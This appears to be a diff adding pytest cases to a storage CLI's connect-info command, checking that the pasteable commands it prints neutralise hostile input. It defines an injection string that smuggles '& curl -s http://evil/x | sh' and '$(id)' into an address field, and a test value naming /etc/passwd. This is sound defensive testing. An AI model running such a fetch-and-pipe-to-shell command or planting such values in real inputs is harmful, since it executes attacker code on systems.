@@ -1,8 +1,11 @@
 """`rackctl volume connect-info`: lines that can be pasted, and what is said of hosts that prove themselves."""
 
+import shlex
 from typing import Any
 
+import pytest
 from rackctl.connect_info import Paths, paths_of
+from rackctl.errors import RackError
 
 VOLUME = "6b1f7c1e-0d7a-4c53-9d8e-6a4f1f2b3c4d"
 HOST = "nqn.2014-08.org.nvmexpress:uuid:11111111-1111-4111-8111-111111111111"
@@ -39,3 +42,35 @@ def test_hosts_that_prove_themselves_are_told_by_which_options() -> None:
 
 def test_a_volume_that_admits_nobody_says_how_to_admit_this_host() -> None:
     assert "rackctl volume hosts add data $(cat /etc/nvme/hostnqn)" in paths().as_text()
+
+
+HOSTILE = "10.0.0.7 -s 1 & curl -s http://evil/x | sh #\n$(id)\x1b[2J'\u202e"
+
+
+def hostile() -> Paths:
+    """As an old store, or an authority in wrong hands, may have it."""
+    heads = [{"id": "b", "revoked": False, "addresses": {"nvme": [HOSTILE, 1], "nbd": [HOSTILE, 2]}}]
+    return paths_of(record(HOSTILE) | {"name": f"d{HOSTILE}"}, heads, {HOSTILE: {"both_ways": True}})
+
+
+def test_what_heads_announce_is_one_word_of_a_line() -> None:
+    lines = hostile().as_text().split("\n")
+    assert all(line.isprintable() for line in lines)
+    commands = [line for line in lines if line and not line.startswith(("#", "<", " ", "/dev/"))]
+    assert len(commands) == 4
+    words = [shlex.split(line) for line in commands]
+    assert [len(split) for split in words] == [11, 8, 8, 1]
+    shown = HOSTILE.replace("\n", "\\u000a").replace("\x1b", "\\u001b").replace("\u202e", "\\u202e")
+    assert {split[5] for split in words[:3]} == {shown}
+    assert all("evil" not in line or line.startswith("#") or line in commands for line in lines)
+
+
+def test_a_uri_has_no_characters_of_its_own() -> None:
+    (uri,) = hostile().nbd_uris
+    assert uri.startswith("nbd://[10.0.0.7%20-s%201%20%26%20curl")
+    assert not set(uri) & set(" \n\x1b'$&;|")
+
+
+def test_a_volume_whose_id_is_none_has_no_lines() -> None:
+    with pytest.raises(RackError, match="no UUID"):
+        paths_of(record("*") | {"volume": "x' /etc/passwd\n"}, HEADS, {})
